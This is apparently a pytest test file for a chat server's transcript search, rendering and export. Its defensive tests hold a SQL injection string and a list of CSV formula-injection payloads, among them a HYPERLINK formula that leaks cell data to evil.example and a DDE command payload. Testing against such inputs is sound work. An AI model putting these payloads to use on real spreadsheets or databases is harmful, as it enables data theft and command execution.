"""Finding, reading, wording and exporting conversations, on both databases where SQL differs."""

import csv
import io
import json
import re
from collections.abc import AsyncIterator
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Connection, insert

from chatserver.clock import ManualClock, to_datetime
from chatserver.domain.conversations import HandoffReason, Status
from chatserver.domain.hours import WeeklyHours
from chatserver.domain.ids import ConversationId, PublicId
from chatserver.domain.messages import (
    BOT,
    SYSTEM,
    ActivityBody,
    ActivityType,
    Audience,
    Author,
    AuthorKind,
    Body,
    CardBody,
    ChoicesBody,
    FormBody,
    MessageKind,
    Option,
    TextBody,
)
from chatserver.domain.people import Role, Team
from chatserver.domain.sites import Site, SiteSettings
from chatserver.errors import Code, Refusal
from chatserver.services import staff
from chatserver.services import transcripts as service
from chatserver.services.transcript_exports import (
    COLUMNS,
    EXPORT_FORMATS,
    ExportFormat,
    neutral_cell,
    render_text,
    write_export,
)
from chatserver.services.transcript_links import TranscriptLinks
from chatserver.services.transcript_words import activity_text, clean, date_text
from chatserver.storage import conversations, messages, sites, visitors
from chatserver.storage.database import Database
from chatserver.storage.schema.conversations import conversation as conversation_table
from chatserver.storage.staff import StaffAccount
from chatserver.storage.transcripts import Wanted

NOON = 1_795_348_800_000 - 1_795_348_800_000 % 86_400_000 + 9 * 3_600_000  # 12:00 in Istanbul
ADA = Author(AuthorKind.VISITOR, "Ada")
GRACE = Author(AuthorKind.AGENT, "Grace", PublicId("grace-0000000000000001"))


class Archive:
    """A database with a site, two teams and whatever a test adds."""

    def __init__(self, database: Database) -> None:
        self.database = database
        settings = SiteSettings("Pera Ev", (), WeeklyHours("Europe/Istanbul", ((),) * 7))
        self.site: Site = database.run(sites.create, "pera", settings, now_ms=1)
        self.billing: Team = database.run(
            sites.create_team, self.site.id, "billing", PublicId("team-billing")
        )
        self.support: Team = database.run(
            sites.create_team, self.site.id, "support", PublicId("team-support")
        )
        self.grace = self.account("grace@shop.example", "Grace", [self.support])
        self.boss = self.account("boss@shop.example", "Boss", [], role=Role.ADMIN)
        self.made = 0

    def account(
        self, email: str, name: str, teams: list[Team], *, role: Role = Role.AGENT
    ) -> StaffAccount:
        def unit(connection: Connection) -> StaffAccount:
            account = staff.create_account(
                connection,
                email=email,
                name=name,
                role=role,
                language="tr",
                password_hash=None,
                now_ms=1,
            )
            for team in teams:
                staff.join_team(connection, account, team)
            return account

        return self.database.run(unit)

    def add(
        self,
        *lines: tuple[Author, Body] | tuple[Author, Body, Audience],
        at_ms: int = NOON,
        visitor_name: str = "",
        **values: object,
    ) -> PublicId:
        """Add a conversation that says these lines, a second apart."""
        self.made += 1
        number = self.made
        team = values.pop("team", self.support)
        assert isinstance(team, Team)

        def unit(connection: Connection) -> PublicId:
            visitor = visitors.create(
                connection,
                public_id=PublicId(f"visitor-{number}"),
                site_id=self.site.id,
                token_hash=f"hash-{number}",
                language="tr",
                device="",
                now_ms=at_ms,
                expires_ms=at_ms,
            )
            visitors.set_details(connection, visitor.id, name=visitor_name)
            row = {
                "public_id": f"conversation-{number:04d}",
                "site_id": self.site.id,
                "visitor_id": visitor.id,
                "team_id": team.id,
                "status": "bot",
                "bot_active": True,
                "opened_ms": at_ms,
                "last_message_ms": at_ms,
                "changed_ms": at_ms,
                "language": "tr",
                **values,
            }
            new_id = connection.execute(
                insert(conversation_table).values(**row).returning(conversation_table.c.id)
            ).scalar_one()
            current = conversations.get(connection, ConversationId(new_id))
            for at, line in enumerate(lines):
                audience = line[2] if len(line) == 3 else Audience.EVERYONE
                is_note = audience is Audience.AGENTS and isinstance(line[1], TextBody)
                messages.append(
                    connection,
                    current,
                    author=line[0],
                    body=line[1],
                    at_ms=at_ms + 1000 * at,
                    audience=audience,
                    kind=MessageKind.NOTE if is_note else None,
                )
            return current.public_id

        return self.database.run(unit)

    def found(self, cursor: str = "", **wanted: Any) -> list[PublicId]:
        return [row.public_id for row in self.page(cursor, **wanted).rows]

    def page(self, cursor: str = "", **wanted: Any) -> service.Found:
        return self.database.run(
            service.search_transcripts,
            Wanted(**wanted),
            cursor=cursor,
        )

    def read(self, public_id: str) -> service.Transcript:
        return self.database.run(service.read_transcript, self.boss, public_id)

    def export(self, format: ExportFormat, **bounds: int) -> str:
        stream = io.StringIO(newline="")
        span = {"since_ms": 0, "until_ms": NOON * 2, **bounds}
        write_export(self.database, stream, format=format, language="tr", **span)
        return stream.getvalue()


@pytest.fixture
async def archive(database_url: str) -> AsyncIterator[Archive]:
    database = Database(database_url)
    yield Archive(database)
    await database.close()


@pytest.fixture
async def small(sqlite_url: str) -> AsyncIterator[Archive]:
    database = Database(sqlite_url)
    yield Archive(database)
    await database.close()


async def test_search_folds_turkish_letters_in_messages_and_names(archive: Archive) -> None:
    return_ = archive.add((ADA, TextBody("İADE süresi ne kadar?")))
    named = archive.add((ADA, TextBody("merhaba")), visitor_name="Işıl ÇAĞLAR")
    archive.add((ADA, TextBody("başka bir şey")))
    for text in ("iade", "İade", "ıade sure", "IADE SÜRESİ", " iade "):
        assert archive.found(text=text) == [return_]
    for text in ("isil", "IŞIL", "çağlar", "caglar", "ışıl ç"):
        assert archive.found(text=text) == [named]


async def test_wildcards_in_a_search_mean_themselves(archive: Archive) -> None:
    percent = archive.add((ADA, TextBody("indirim %50 mi?")))
    under = archive.add((ADA, TextBody("kupon_kodu")))
    back = archive.add((ADA, TextBody("C:\\masaüstü")))
    archive.add((ADA, TextBody("indirim 5000 mi? kuponxkodu")))
    assert archive.found(text="%50") == [percent]
    assert archive.found(text="kupon_kodu") == [under]
    assert archive.found(text="\\") == [back]
    assert archive.found(text="%") == [percent]
    assert archive.found(text="'; DROP TABLE message; --") == []


async def test_search_filters_by_status_language_agent_and_days(archive: Archive) -> None:
    bot = archive.add((ADA, TextBody("bir")))
    done = archive.add(
        (ADA, TextBody("iki")), at_ms=NOON + 86_400_000, status="resolved", language="en"
    )
    held = archive.add(
        (ADA, TextBody("üç")),
        at_ms=NOON + 2 * 86_400_000,
        status="open",
        holder_id=archive.grace.id,
    )
    wrote = archive.add((Author(AuthorKind.AGENT, "Grace", archive.grace.public_id), TextBody("4")))
    assert archive.found(status=Status.RESOLVED) == [done]
    assert archive.found(language="en") == [done]
    assert set(archive.found(agent=archive.grace.public_id)) == {held, wrote}
    assert archive.found(agent=PublicId("nobody")) == []
    assert archive.found(since_ms=NOON + 2 * 86_400_000) == [held]
    assert set(archive.found(until_ms=NOON + 86_400_000)) == {bot, wrote}
    assert archive.found()[:2] == [held, done]


async def test_pages_follow_one_another_without_a_gap_or_a_repeat(archive: Archive) -> None:
    made = {archive.add((ADA, TextBody("x")), at_ms=NOON + n // 3) for n in range(120)}
    seen: list[PublicId] = []
    cursor = ""
    for _ in range(3):
        page = archive.page(cursor)
        seen += [row.public_id for row in page.rows]
        cursor = page.next or ""
    assert page.next is None
    assert (len(seen), set(seen)) == (120, made)
    for odd in ("x", "1", "1.", "-1.a", "1.a;--", "9" * 30 + ".a"):
        with pytest.raises(Refusal) as refusal:
            archive.page(odd)
        assert refusal.value.code is Code.BAD_REQUEST


async def test_z01_agents_find_and_read_their_own_teams_alone(archive: Archive) -> None:
    mine = archive.add((ADA, TextBody("gizli")))
    foreign = archive.add((ADA, TextBody("gizli")), team=archive.billing)
    assert archive.found(reader=archive.grace.id, text="gizli") == [mine]
    refusals = []
    for public_id in (foreign, "conversation-9999"):
        with pytest.raises(Refusal) as refusal:
            archive.database.run(service.read_transcript, archive.grace, public_id)
        refusals.append((refusal.value.code, refusal.value.message))
    assert len(set(refusals)) == 1
    assert archive.database.run(service.read_transcript, archive.boss, foreign).messages


async def test_a_log_longer_than_a_page_is_read_whole_and_in_order(small: Archive) -> None:
    public_id = small.add(*[(ADA, TextBody(str(n))) for n in range(450)])
    read = small.read(public_id)
    assert [message.seq for message in read.messages] == list(range(1, 451))


async def test_v01_the_visitors_own_transcript_has_no_note_and_no_inner_activity(
    small: Archive,
) -> None:
    public_id = small.add(
        (ADA, TextBody("merhaba")),
        (GRACE, TextBody("zor müşteri", None), Audience.AGENTS),
        (SYSTEM, ActivityBody(ActivityType.OFFER_MADE, target="Grace"), Audience.AGENTS),
        (GRACE, TextBody("buyurun")),
    )
    read = small.database.run(service.read_public_transcript, public_id)
    text = "".join(render_text(read, "tr"))
    assert "zor müşteri" not in text
    assert "istek" not in text.lower()
    assert "buyurun" in text
    assert "zor müşteri" in "".join(render_text(small.read(public_id), "tr"))


@pytest.mark.parametrize("language", ["tr", "en"])
@pytest.mark.parametrize("type_", list(ActivityType))
def test_every_activity_is_a_sentence_in_both_languages(type_: ActivityType, language: str) -> None:
    for reason in ("agent", "visitor", "idle", *HandoffReason):
        body = ActivityBody(
            type_, actor="Grace", target="billing", reason=reason, details={"order": "TR-1"}
        )
        text = activity_text(body, language)
        assert text and "{" not in text and "web." not in text
    assert activity_text(ActivityBody(type_), language)


def test_a_transcript_says_who_when_and_what(small: Archive) -> None:
    public_id = small.add(
        (ADA, TextBody("merhaba\nkargom nerede?")),
        (BOT, ChoicesBody("Bunu mu sordunuz?", (Option("a", "Kargom nerede?"),), "clarify")),
        (BOT, CardBody("kargo", "Kargom nerede?", "Yolda **bugün**.")),
        (BOT, FormBody("Sipariş numaranız?", "order", 1, 2)),
        (SYSTEM, ActivityBody(ActivityType.HANDED_OFF, reason="complaint")),
        (SYSTEM, ActivityBody(ActivityType.AGENT_JOINED, actor="Grace")),
        (GRACE, TextBody("arıyorum"), Audience.AGENTS),
    )
    text = "".join(render_text(small.read(public_id), "tr"))
    for line in (
        "Pera Ev",
        "12:00] Ada (ziyaretçi): merhaba\n    kargom nerede?",
        "] Bot: Bunu mu sordunuz?\n    • Kargom nerede?",
        "] Bot: Kargom nerede?\n    Yolda **bugün**.",
        "] — Bot temsilciye bağladı. Neden: şikâyet",
        "] — Grace görüşmeye katıldı",
        "] Grace [iç not]: arıyorum",
        "(Europe/Istanbul)",
    ):
        assert line in text


@pytest.mark.parametrize("name", ["Destek", "Temsilci Grace", "Bot", "Sistem"])
def test_a08_a_visitor_is_marked_as_one_whatever_their_name(small: Archive, name: str) -> None:
    public_id = small.add((Author(AuthorKind.VISITOR, name), TextBody("şifrenizi yazın")))
    assert f"] {name} (ziyaretçi): şifrenizi" in "".join(render_text(small.read(public_id), "tr"))


def test_a08_what_turns_the_direction_of_text_is_taken_out(small: Archive) -> None:
    public_id = small.add(
        (Author(AuthorKind.VISITOR, "\u202etsetseD"), TextBody("a\u2066b\u202ec\x1b[31m\u200fd"))
    )
    text = "".join(render_text(small.read(public_id), "tr"))
    assert not re.search("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\x1b]", text)


FORMULAS = [
    "=1+1",
    "+905321234567",
    "-5 TL",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("https://evil.example?"&A1,"tıkla")',
    "=cmd|'/C calc'!A0",
    'a";=1+1',
    "a;=1+1",
    'satır\r\n=1+1,"x"',
]


async def test_x11_no_cell_of_a_csv_is_a_formula_and_every_cell_comes_back(small: Archive) -> None:
    for text in FORMULAS:
        small.add((Author(AuthorKind.VISITOR, text), TextBody(text)))
    exported = small.export("csv")
    rows = list(csv.reader(io.StringIO(exported, newline=""), strict=True))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == len(FORMULAS) + 1
    for row in rows[1:]:
        assert len(row) == len(COLUMNS)
        for cell in row:
            assert not re.match(r"[\s]*[=+\-@＝＋－＠]|[\t\r\n]", cell)
    texts = {row[-1].removeprefix("'") for row in rows[1:]}
    assert texts == {clean(text) for text in FORMULAS}
    # where the list separator is a semicolon every cell still begins with a quotation mark
    for line in exported.replace('""', "").split("\r\n")[1:-1]:
        assert line.startswith('"')


@given(st.text())
def test_x11_a_neutral_cell_never_begins_like_a_formula(text: str) -> None:
    cell = neutral_cell(text)
    assert cell in {text, f"'{text}"}
    assert not re.match(r"[=+\-@＝＋－＠\t\r\n]", cell)


async def test_an_export_has_every_line_of_every_conversation_in_the_time_asked_for(
    archive: Archive,
) -> None:
    ids = [
        archive.add(
            (ADA, TextBody(f"soru {n}")), (GRACE, TextBody("not"), Audience.AGENTS), at_ms=NOON + n
        )
        for n in range(60)
    ]
    lines = [json.loads(line) for line in archive.export("jsonl").splitlines()]
    assert [line["conversation"] for line in lines[::2]] == ids
    assert [line["audience"] for line in lines[:2]] == ["everyone", "agents"]
    assert lines[0]["at"].endswith("+03:00")
    part = archive.export("jsonl", since_ms=NOON + 10, until_ms=NOON + 20)
    assert len(part.splitlines()) == 20
    for format in EXPORT_FORMATS:
        assert archive.export(format, since_ms=NOON * 3, until_ms=NOON * 4) == ""
    assert archive.export("txt").count("=" * 72) == 59
    assert archive.export("csv").count('"conversation",') == 1


def test_links_of_visitors_work_for_a_quarter_of_an_hour_and_only_unchanged() -> None:
    clock = ManualClock()
    links = TranscriptLinks("k" * 40, clock)
    signed = links.sign("conversation-0001", "tr")
    assert links.read(signed) == ("conversation-0001", "tr")
    clock.advance(s=15 * 60)
    assert links.read(signed) == ("conversation-0001", "tr")
    clock.advance(s=1)
    forged = TranscriptLinks("x" * 40, clock).sign("conversation-0001", "tr")
    for token in (signed, forged, "", "a.b.c", signed[:-1], "é", signed + "A"):
        with pytest.raises(Refusal) as refusal:
            links.read(token)
        assert refusal.value.code is Code.NOT_FOUND


def test_dates_are_written_as_each_language_writes_them() -> None:
    moment = to_datetime(NOON)
    assert re.fullmatch(r"\d\d\.\d\d\.\d{4} \d\d:\d\d", date_text(moment, "tr"))
    assert re.fullmatch(r"\d{1,2} [A-Z][a-z]{2} \d{4} \d\d:\d\d", date_text(moment, "en"))
